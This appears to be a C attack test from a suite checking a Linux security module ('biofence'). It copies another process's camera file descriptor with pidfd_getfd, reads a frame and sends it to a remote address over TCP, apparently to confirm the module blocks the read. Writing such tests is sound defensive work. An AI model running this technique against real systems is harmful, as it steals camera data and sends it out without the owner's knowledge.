/* pidfd_getfd.c - attack: a non-app, untainted process takes a copy of the camera descriptor an app holds with pidfd_getfd(), reads it and sends to a third party. */
#include <dirent.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "attack.h"

#define ROUTE "pidfd_getfd"

/* The holder's descriptor number for CAMERA's device, or -1. */
static int holder_fd(const char *pid, dev_t rdev)
{
	char dir[64], path[320];
	struct dirent *de;
	struct stat st;
	int n = -1;
	DIR *d;

	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	if (!(d = opendir(dir)))
		return -1;
	while (n < 0 && (de = readdir(d))) {
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (de->d_name[0] != '.' && stat(path, &st) == 0 && S_ISCHR(st.st_mode) && st.st_rdev == rdev)
			n = atoi(de->d_name);
	}
	closedir(d);
	return n;
}

/* usage: pidfd_getfd CAMERA HOLDER_PID A.B.C.D:PORT */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	char buf[256], frame[64];
	struct stat cam;
	socklen_t len;
	ssize_t got;
	size_t n;
	int pidfd, fd, target, sock;

	if (argc != 4) {
		fprintf(stderr, "usage: " ROUTE " CAMERA HOLDER_PID A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[3], &ss, &len);
	if (stat(argv[1], &cam) < 0 || (target = holder_fd(argv[2], cam.st_rdev)) < 0) {
		at_result(ROUTE, "error", "pid %s holds no descriptor of %s", argv[2], argv[1]);
		return 1;
	}
	/* No open(), so no device check: the open file itself is duplicated into us (needs ptrace rights: root here). */
	pidfd = (int)syscall(SYS_pidfd_open, atoi(argv[2]), 0);
	if (pidfd < 0)
		return at_report_errno(ROUTE, "pidfd_open", errno);
	fd = (int)syscall(SYS_pidfd_getfd, pidfd, target, 0);
	if (fd < 0)
		return at_report_errno(ROUTE, "pidfd_getfd", errno);
	got = read(fd, frame, sizeof(frame));
	if (got < 0)	/* EPERM: biofence judged the use (lsm/file_permission) */
		return at_report_errno(ROUTE, "read from the taken camera fd", errno);
	n = at_token(buf, sizeof(buf), ROUTE);
	sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0)
		return at_report_errno(ROUTE, "connect", errno);
	if (send(sock, buf, n, MSG_NOSIGNAL) != (ssize_t)n || send(sock, frame, (size_t)got, MSG_NOSIGNAL) != got)
		return at_report_errno(ROUTE, "send", errno);
	at_result(ROUTE, "through", "took fd %d from the holder, read %zd bytes from it and sent them", target, got);
	return 0;
}
